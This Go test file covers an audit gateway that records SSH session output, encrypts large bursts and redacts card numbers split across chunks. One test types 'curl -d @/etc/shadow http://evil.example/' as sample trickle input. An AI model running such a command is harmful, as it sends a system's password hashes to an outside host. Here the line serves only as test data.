package gateway_test

import (
	"bytes"
	"encoding/base64"
	"errors"
	mathrand "math/rand/v2"
	"strings"
	"testing"
	"time"

	"github.com/nats-io/nats.go/jetstream"

	"github.com/auditledger/auditledger/events"
	"github.com/auditledger/auditledger/ledger/bus"
	"github.com/auditledger/auditledger/ledger/piikeys"
	"github.com/auditledger/auditledger/services/gateway"
	"github.com/auditledger/auditledger/services/gateway/gatewaytest"
	"github.com/auditledger/auditledger/test/natstest"
)

// words is n bytes of text no detector finds anything in.
func words(n int) []byte {
	b := make([]byte, n)
	for i := range b {
		b[i] = "abcdefghijklmnopqrstuvwxyz  \n"[mathrand.IntN(29)]
	}
	return b
}

// played rebuilds a stream from its chunks, opening the bulk pieces from
// the bus with the key store: every offset accounted for, in order.
func played(t *testing.T, js jetstream.JetStream, keys *piikeys.Store, chunks []natstest.Stored) (textBytes, pieces int, out []byte) {
	t.Helper()
	for i, c := range chunks {
		if int64(c.Payload["offset"].(float64)) != int64(len(out)) {
			t.Fatalf("chunk %d at offset %v, want %d", i, c.Payload["offset"], len(out))
		}
		b := gatewaytest.ChunkBytes(t, js, keys, c.Event, c.Payload)
		if c.Payload["bulk"] != nil {
			if _, has := c.Payload["data"]; has || len(b) > piikeys.MaxBulkPiece {
				t.Fatalf("chunk %d: %d bytes, and data too? %v", i, len(b), has)
			}
			pieces++
		} else {
			textBytes += len(b)
		}
		out = append(out, b...)
	}
	return textBytes, pieces, out
}

// A stream written in one burst of more than BulkAfter bytes is recorded
// as bulk pieces from there on: sealed under the subject's key on the
// bus, named by their events, and with the text chunks before them the
// stream's bytes, in order. The bus holds no piece's bytes in clear.
func TestStreamBulkPieces(t *testing.T) {
	b, keys, s := bulkGateway(t)
	data := words(3 << 20)
	marker := "bulk-marker-" + strings.Repeat("q", 20)
	copy(data[2<<20:], marker)
	st := s.Stream("stdout", gateway.StreamConfig{FlushAfter: time.Hour})
	writeAll(st, data)
	st.Close()
	chunks := recordedUpTo(t, b, len(data))
	text, pieces, out := played(t, b.js, keys, chunks)
	if !bytes.Equal(out, data) {
		t.Fatalf("the chunks play %d bytes, not the %d written", len(out), len(data))
	}
	// Up to 256 KiB (and the write that crossed it) as text, then pieces
	// of 512 KiB (the last one shorter).
	if text > gateway.BulkAfter || pieces != (len(data)-text+piikeys.MaxBulkPiece-1)/piikeys.MaxBulkPiece {
		t.Errorf("%d bytes as text chunks and %d pieces", text, pieces)
	}
	gatewaytest.CheckAbsent(t, gatewaytest.BusBytes(t, b.js), marker)
}

// After bulk, the first text chunk is judged with the bulk's end: a card
// number whose first half ended the bulk and whose second half follows a
// pause is replaced in the text, not recorded as its half.
func TestStreamBulkThenText(t *testing.T) {
	b, _, s := bulkGateway(t)
	card := gatewaytest.Card(t)
	first, second := card[:10], card[10:] // "4xxx xxxx " and "xxxx xxxx"
	wait := 50 * time.Millisecond
	st := s.Stream("stdout", gateway.StreamConfig{FlushAfter: wait})
	data := append(words(1<<20), "\ncard "+first...)
	writeAll(st, data)
	// A pause of more than BulkPause (the piece sealed by its timer), then
	// the rest of the line.
	chunks := recordedUpTo(t, b, len(data))
	time.Sleep(gateway.BulkPause + wait)
	st.Write([]byte(second + " ok\n" + string(words(100))))
	st.Close()
	want := len(data) + len(second) + 4 + 100
	chunks = recordedUpTo(t, b, want)
	last := chunks[len(chunks)-1]
	if _, ok := last.Payload["data"]; !ok {
		t.Fatalf("the text after the pause is not a text chunk: %v", last.Payload)
	}
	if last.Payload["bulk_before"] != float64(len(first)) {
		t.Errorf("bulk_before %v, want %d: the bytes of the value in the piece before", last.Payload["bulk_before"], len(first))
	}
	raw, _ := base64.StdEncoding.DecodeString(last.Payload["data"].(string))
	if !strings.HasPrefix(string(raw), "[REDACTED:credit_card] ok\n") {
		t.Errorf("the text after the bulk records %q, want the card's second half replaced", raw[:min(len(raw), 40)])
	}
	gatewaytest.CheckAbsent(t, gatewaytest.BusBytes(t, b.js), card)
	if strings.Contains(string(gatewaytest.BusBytes(t, b.js)), strings.ReplaceAll(second, " ", "")) {
		t.Error("the bus holds the card's second half")
	}
}

// Without a key store nothing can be sealed encrypted: the stream stays
// judged text chunks, whatever its rate.
func TestStreamBulkNeedsKeys(t *testing.T) {
	b := startBus(t, true)
	g := newGateway(t, b.em, nil)
	s := g.Session(events.Target{Kind: "ssh"})
	s.Authenticated(alice)
	data := words(1 << 20)
	st := s.Stream("stdout", gateway.StreamConfig{FlushAfter: time.Hour})
	st.Write(data)
	st.Close()
	chunks := recordedUpTo(t, b, len(data))
	for _, c := range chunks {
		if _, ok := c.Payload["bulk"]; ok {
			t.Fatal("a bulk piece without a key store")
		}
	}
}

// A piece the bus does not take is recorded as its size and keyed
// digest, never dropped unseen, and the stream's offsets stay whole.
func TestStreamBulkRefused(t *testing.T) {
	b, _, s := bulkGateway(t)
	if err := b.js.DeleteStream(t.Context(), bus.BulkStream); err != nil && !errors.Is(err, jetstream.ErrStreamNotFound) {
		t.Fatal(err)
	}
	data := words(1 << 20)
	st := s.Stream("stdout", gateway.StreamConfig{FlushAfter: time.Hour})
	st.Write(data)
	st.Close()
	chunks := recordedUpTo(t, b, len(data))
	binary := 0
	for _, c := range chunks {
		if c.Payload["binary"] == true {
			if h, _ := c.Payload["hmac"].(string); !strings.HasPrefix(h, "hmac:") {
				t.Errorf("a piece not stored is recorded without its keyed digest: %v", c.Payload)
			}
			binary++
		}
	}
	if binary == 0 {
		t.Fatal("no piece recorded as its digest")
	}
}

// AUDIT_BULK holds at most bus.DefaultBulkMaxPieces pieces and refuses
// more (pieces no event names, which any producer may publish under its
// own token, cannot fill the bus's disk); a piece refused so is recorded
// as its keyed digest, never dropped unseen.
func TestStreamBulkStreamFull(t *testing.T) {
	b, _, s := bulkGateway(t)
	stream, err := b.js.Stream(t.Context(), bus.BulkStream)
	if err != nil {
		t.Fatal(err)
	}
	cfg := stream.CachedInfo().Config
	if cfg.MaxMsgs != bus.DefaultBulkMaxPieces || cfg.Discard != jetstream.DiscardNew {
		t.Fatalf("%s: max_msgs %d, discard %v; want %d, discard new", bus.BulkStream, cfg.MaxMsgs, cfg.Discard, bus.DefaultBulkMaxPieces)
	}
	cfg.MaxMsgs = 1 // full after one piece, to see what a full stream does
	if _, err := b.js.UpdateStream(t.Context(), cfg); err != nil {
		t.Fatal(err)
	}
	data := words(3 << 20)
	st := s.Stream("stdout", gateway.StreamConfig{FlushAfter: time.Hour})
	writeAll(st, data)
	st.Close()
	chunks := recordedUpTo(t, b, len(data))
	pieces, binary := 0, 0
	for _, c := range chunks {
		switch {
		case c.Payload["bulk"] != nil:
			pieces++
		case c.Payload["binary"] == true:
			if h, _ := c.Payload["hmac"].(string); !strings.HasPrefix(h, "hmac:") {
				t.Errorf("a piece refused is recorded without its keyed digest: %v", c.Payload)
			}
			binary++
		}
	}
	if pieces != 1 || binary == 0 {
		t.Fatalf("%d pieces stored and %d recorded as their digest; want 1 and the rest", pieces, binary)
	}
}

// bulkGateway is a session of a gateway with a key store, on its own
// bus.
func bulkGateway(t *testing.T) (*testBus, *piikeys.Store, *gateway.Session) {
	t.Helper()
	b := startBus(t, true)
	keys, err := piikeys.Open(t.Context(), b.js, 1)
	if err != nil {
		t.Fatal(err)
	}
	g := newGateway(t, b.em, func(c *gateway.Config) { c.Keys = keys })
	s := g.Session(events.Target{Kind: "ssh"})
	s.Authenticated(alice)
	return b, keys, s
}

// bulkSession is bulkGateway's session's stdout, recorded with flush
// interval wait.
func bulkSession(t *testing.T, wait time.Duration) (*testBus, *piikeys.Store, *gateway.Stream) {
	b, keys, s := bulkGateway(t)
	return b, keys, s.Stream("stdout", gateway.StreamConfig{FlushAfter: wait})
}

// recordedUpTo waits until the stream's chunks account for n bytes.
func recordedUpTo(t *testing.T, b *testBus, n int) []natstest.Stored {
	t.Helper()
	var chunks []natstest.Stored
	natstest.CheckFor(t, time.Minute, 10*time.Millisecond, func() error {
		chunks = outputs(natstest.Events(t, b.js, ""))
		if k := len(chunks); k == 0 || int(chunks[k-1].Payload["offset"].(float64)+chunks[k-1].Payload["bytes"].(float64)) != n {
			return errors.New("not all recorded yet")
		}
		return nil
	})
	return chunks
}

// writeAll writes p in writes of 32 KiB.
func writeAll(st *gateway.Stream, p []byte) {
	for ; len(p) > 0; p = p[min(len(p), 32<<10):] {
		st.Write(p[:min(len(p), 32<<10)])
	}
}

// Escape sequences padding a value's halves apart — its first half at
// the end of a burst, 6,000 bytes of SGR resets after it, the rest after
// a pause — do not push the first half out of the text judged with the
// second: the bulk's tail is kept by what a terminal shows, as text
// holds back.
func TestStreamBulkTailByRendering(t *testing.T) {
	b, _, st := bulkSession(t, 50*time.Millisecond)
	card := gatewaytest.Card(t)
	first, second := card[:10], card[10:]
	data := append(words(1<<20), "\ncard "+first+strings.Repeat("\x1b[m", 2000)...)
	writeAll(st, data)
	recordedUpTo(t, b, len(data))
	time.Sleep(gateway.BulkPause + 100*time.Millisecond)
	st.Write([]byte(second + " ok\n"))
	st.Close()
	chunks := recordedUpTo(t, b, len(data)+len(second)+4)
	last := chunks[len(chunks)-1]
	raw, _ := base64.StdEncoding.DecodeString(last.Payload["data"].(string))
	if strings.Contains(string(raw), strings.ReplaceAll(second, " ", "")[:4]) || !strings.Contains(string(raw), "[REDACTED:credit_card]") {
		t.Errorf("the text after the padded bulk records %q", raw)
	}
	if last.Payload["bulk_before"] == nil {
		t.Errorf("no bulk_before: %v", last.Payload)
	}
}

// A trickle after a burst is not bulk: the first piece its flush
// interval seals with little in it turns the stream back to text, so
// what is typed or shown one byte at a time is judged, not sealed in a
// piece apiece.
func TestStreamBulkTrickleIsText(t *testing.T) {
	b, _, st := bulkSession(t, 50*time.Millisecond)
	data := words(1 << 20)
	writeAll(st, data)
	n := len(data)
	recordedUpTo(t, b, n) // the burst, sealed: its last piece by the timer
	for _, c := range []byte("curl -d @/etc/shadow http://evil.example/\n") {
		st.Write([]byte{c})
		n++
		time.Sleep(5 * time.Millisecond)
	}
	st.Close()
	chunks := recordedUpTo(t, b, n)
	pieces := 0
	var text []byte
	for _, c := range chunks {
		if c.Payload["bulk"] != nil {
			pieces++
			continue
		}
		if s, ok := c.Payload["data"].(string); ok {
			raw, _ := base64.StdEncoding.DecodeString(s)
			text = append(text, raw...)
		}
	}
	// At most the trickle's first flush interval is in a piece.
	if !strings.Contains(string(text), "evil.example/\n") || strings.Count(string(text), "e") < 3 {
		t.Errorf("the trickle is not in the text chunks: %q (%d pieces in all)", text, pieces)
	}
}

// A piece that begins in insert mode says so: its reader cannot know.
func TestStreamBulkInsertMode(t *testing.T) {
	b, _, st := bulkSession(t, time.Hour)
	data := append([]byte("\x1b[4h"), words(3<<20)...)
	writeAll(st, data)
	st.Close()
	chunks := recordedUpTo(t, b, len(data))
	n := 0
	for _, c := range chunks {
		if c.Payload["bulk"] != nil {
			if c.Payload["insert"] != true {
				t.Errorf("a piece after ESC [4h without insert: %v", c.Payload)
			}
			n++
		}
	}
	if n == 0 {
		t.Fatal("no piece")
	}
}

// Bulk bytes are not rendered: where they leave the cursor is not known,
// and the text after them starts from a row not known, not from the row
// the bytes before it left (the bulk names row 5, then its last 4 KiB,
// judged with the text, rewrite that row after CR). The case
// after a bulk run: the card's parts joined on row 6 by a line feed and
// a row named is recorded as binary (no row known) or replaced (the
// tail names the row), never in clear as the rows before the bulk would
// place them.
func TestStreamCursorForgottenAfterBulk(t *testing.T) {
	b, _, s := bulkGateway(t)
	wait := 50 * time.Millisecond
	st := s.Stream("stdout", gateway.StreamConfig{FlushAfter: wait, Screen: gateway.NewScreen(80, 24)})
	st.Write([]byte("\x1b[5;1Hnamed\r\n"))
	st.Flush()
	data := append(words(1<<20), "\x1b[5;1H"+strings.Repeat("progress 45%\r", 400)...)
	writeAll(st, data)
	time.Sleep(gateway.BulkPause + wait) // the pause that ends the bulk
	after := "\r\nXXXX851889592158\r\n\x1b[6;1H4802\r\n"
	st.Write([]byte(after))
	st.Close()
	want := len("\x1b[5;1Hnamed\r\n") + len(data) + len(after)
	chunks := recordedUpTo(t, b, want)
	// Recorded as binary (the row not known), or with the card replaced
	// (the bulk's tail, 4 KiB as rendered, names row 5): never in clear.
	if last := chunks[len(chunks)-1].Payload; last["binary"] != true {
		raw, _ := base64.StdEncoding.DecodeString(last["data"].(string))
		if strings.Contains(string(raw), "851889592158") {
			t.Fatalf("the text after the bulk recorded as %q: the card's parts in clear", raw)
		}
	}
}
